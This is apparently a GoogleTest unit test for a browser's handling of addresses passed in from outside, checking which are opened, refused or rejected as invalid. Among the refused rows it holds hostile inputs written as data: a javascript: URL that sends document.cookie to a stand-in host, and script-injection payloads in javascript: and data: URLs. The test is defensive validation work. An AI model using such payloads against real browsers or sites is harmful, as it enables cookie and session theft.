#include "util/outsideaddress.h"

#include <gtest/gtest.h>

#include <glib.h>
#include <glib/gstdio.h>

namespace {

using Kind = outsideaddress::Verdict::Kind;

// What the command line or another program hands over: only web pages, a
// local file the user named and the blank page open.
TEST(OutsideAddress, OnlyWebPagesFilesAndTheBlankPageOpen)
{
    gchar *made = g_dir_make_tmp("outside-XXXXXX", nullptr);
    const std::string folder = made;
    g_free(made);
    ASSERT_TRUE(g_file_set_contents((folder + "/page.html").c_str(), "<p>mine", -1, nullptr));
    ASSERT_TRUE(g_file_set_contents((folder + "/bank.test").c_str(), "a file", -1, nullptr));
    const std::string refusal = ": address it was handed: from outside, it opens only web pages and files.";

    const struct
    {
        std::string given;
        Kind kind;
        std::string text; // the address opened, or the start of what the user is told
    } rows[] = {
        {"", Kind::Ignore, ""},
        {" \t ", Kind::Ignore, ""},
        {"http://bank.test/login?a=1", Kind::Open, "http://bank.test/login?a=1"},
        {"HTTPS://Bank.Test/", Kind::Open, "HTTPS://Bank.Test/"},
        {"example.com", Kind::Open, "http://example.com"},
        {"localhost:8080/x", Kind::Open, "http://localhost:8080/x"},
        {"http://b\u00fccher.test/", Kind::Open, "http://b\u00fccher.test/"},
        {"http://[::1]:8080/", Kind::Open, "http://[::1]:8080/"},
        {"about:blank", Kind::Open, "about:blank"},
        {"About:Blank", Kind::Open, "about:blank"},
        {"page.html", Kind::Open, "file://" + folder + "/page.html"},
        {"./page.html", Kind::Open, "file://" + folder + "/page.html"},
        // A file the user named wins over the host it could also be.
        {"bank.test", Kind::Open, "file://" + folder + "/bank.test"},
        {folder + "/page.html", Kind::Open, "file://" + folder + "/page.html"},
        {"file://" + folder + "/page.html", Kind::Open, "file://" + folder + "/page.html"},
        {"file://localhost/etc/hosts", Kind::Open, "file:///etc/hosts"},
        // Run in the page on screen, or a page of its own: never from outside.
        {"javascript:void(new Image().src='http://evil.test/log?c='+document.cookie)", Kind::Refuse,
         "Skimlark did not open the javascript" + refusal},
        {" JavaScript:alert(1)", Kind::Refuse, "Skimlark did not open the javascript" + refusal},
        {"data:text/html,<script>alert(1)</script>", Kind::Refuse, "Skimlark did not open the data" + refusal},
        {"about:config", Kind::Refuse, "Skimlark did not open the about" + refusal},
        {"view-source:http://bank.test/", Kind::Refuse, "Skimlark did not open the view-source" + refusal},
        {"skimlark-site://www.velmora.example/skimlark.htm", Kind::Refuse,
         "Skimlark did not open the skimlark-site" + refusal},
        {"smb://files.example/share", Kind::Refuse, "Skimlark did not open the smb" + refusal},
        {"file://server/share/x.html", Kind::Refuse, "Skimlark did not open the file" + refusal},
        // No address at all.
        {"hello world", Kind::Invalid, "Skimlark cannot open \u201chello world\u201d: it is neither"},
        {"http://", Kind::Invalid, "Skimlark cannot open \u201chttp://\u201d"},
        {"http://exa mple.test/", Kind::Invalid, "Skimlark cannot open \u201chttp://exa mple.test/\u201d"},
        {"http://a.test:99999/", Kind::Invalid, "Skimlark cannot open"},
        {"java\nscript:alert(1)", Kind::Invalid, "Skimlark cannot open \u201cjava script:alert(1)\u201d"},
        {"file://%zz", Kind::Invalid, "Skimlark cannot open"},
    };
    for (const auto &row : rows) {
        SCOPED_TRACE(row.given);
        const outsideaddress::Verdict verdict = outsideaddress::judge(row.given, folder);
        EXPECT_EQ(verdict.kind, row.kind);
        if (row.kind == Kind::Open)
            EXPECT_EQ(verdict.text, row.text);
        else
            EXPECT_EQ(verdict.text.substr(0, row.text.size()), row.text) << verdict.text;
    }
    // Without a folder to look in, a bare name is a web address.
    EXPECT_EQ(outsideaddress::judge("page.html", "").text, "http://page.html");
    // A long text is cut where it is shown.
    const std::string longWords(5000, 'w');
    const std::string told = outsideaddress::judge("a " + longWords, folder).text;
    EXPECT_LT(told.size(), 300u);
    EXPECT_NE(told.find("w\u2026\u201d"), std::string::npos) << told;

    for (const char *name : {"page.html", "bank.test"})
        g_unlink((folder + "/" + name).c_str());
    g_rmdir(folder.c_str());
}

} // namespace
